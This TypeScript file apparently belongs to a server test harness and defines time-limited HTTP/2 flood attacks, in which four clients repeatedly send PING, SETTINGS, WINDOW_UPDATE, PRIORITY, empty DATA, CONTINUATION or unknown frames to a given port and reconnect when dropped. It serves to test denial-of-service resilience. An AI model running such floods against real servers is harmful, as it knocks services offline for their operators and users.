import { setTimeout as delay } from 'node:timers/promises';
import { type Attack, check } from './attack.ts';
import { frame, FRAME, H2Attacker, requestFields } from './h2-frames.ts';

/** A frame to repeat, with what must come before it on the connection. */
interface Flood {
  readonly name: string;
  readonly frame: Buffer;
  readonly before?: (attacker: H2Attacker) => void;
}

const ONE = Buffer.from([0, 0, 0, 1]);
const nothing = Buffer.alloc(0);
const opened = (attacker: H2Attacker): void =>
  attacker.request(1, requestFields('POST', '/api/v2/slow?ms=60000'), false);

/** Frames that are legal, and cost more to read than to send (RFC 9113 §10.5). */
const FLOODS: readonly Flood[] = [
  { name: 'PING', frame: frame(FRAME.ping, 0, 0, Buffer.alloc(8)) },
  { name: 'PING with ACK', frame: frame(FRAME.ping, 1, 0, Buffer.alloc(8)) },
  { name: 'SETTINGS', frame: frame(FRAME.settings, 0, 0, nothing) },
  { name: 'WINDOW_UPDATE of the connection', frame: frame(FRAME.window, 0, 0, ONE) },
  { name: 'WINDOW_UPDATE of a stream', frame: frame(FRAME.window, 0, 1, ONE), before: opened },
  { name: 'PRIORITY', frame: frame(FRAME.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16])) },
  { name: 'empty DATA', frame: frame(FRAME.data, 0, 1, nothing), before: opened },
  { name: 'DATA of a byte', frame: frame(FRAME.data, 0, 1, Buffer.from('x')), before: opened },
  { name: 'an unknown frame', frame: frame(0x42, 0, 0, nothing) },
  {
    name: 'CONTINUATION',
    frame: frame(FRAME.continuation, 0, 1, nothing),
    before: ({ socket }) => socket.write(frame(FRAME.headers, 0, 1, nothing)),
  },
];
/** Frames in one write. */
const FRAMES = 4096;
const MILLISECONDS = 2500;
const RECONNECT_MS = 100;

/** Attacks by frames that nobody needs. */
export const http2FloodAttacks: readonly Attack[] = FLOODS.map((flood) => ({
  id: `O-h2-${flood.name.toLowerCase().replaceAll(/[^a-z]+/g, '-')}`,
  sentence: `Four HTTP/2 clients send ${flood.name} frames as fast as they are read, and connect again when they are cut off.`,
  isTls: true,
  async play({ port, signal }, scale) {
    const end = AbortSignal.any([signal, AbortSignal.timeout(MILLISECONDS * scale)]);
    const block = Buffer.concat(Array.from({ length: FRAMES }, () => flood.frame));
    const one = async (): Promise<number> => {
      let count = 0;
      while (!end.aborted) {
        const attacker = await H2Attacker.open(port);
        flood.before?.(attacker);
        while (!end.aborted && !attacker.socket.destroyed) {
          count += FRAMES;
          if (!attacker.socket.write(block)) await attacker.writable(end);
        }
        attacker.socket.destroy();
        // Handshakes are another attack.
        await delay(RECONNECT_MS);
      }
      return count;
    };
    const counts = await Promise.all([one(), one(), one(), one()]);
    console.log(`  ${counts.reduce((sum, count) => sum + count, 0)} frames`);
    return [
      check(
        'no frame was sent',
        counts.every((count) => count > 0),
      ),
    ];
  },
}));
